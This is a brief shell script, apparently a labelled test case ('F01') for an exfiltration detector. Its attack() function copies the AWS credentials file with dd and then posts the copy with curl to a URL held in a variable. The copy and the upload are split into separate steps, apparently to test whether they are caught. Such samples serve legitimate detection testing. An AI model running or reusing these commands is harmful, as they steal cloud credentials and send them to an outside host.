# SPDX-License-Identifier: Apache-2.0
TITLE="a copy by dd, sent later by another process"
ROW="F01"
attack() {
	dd if="$HOME/.aws/credentials" of=copy status=none
	sleep 0.3
	curl -s -m 5 --data-binary @copy "$URL/"
}
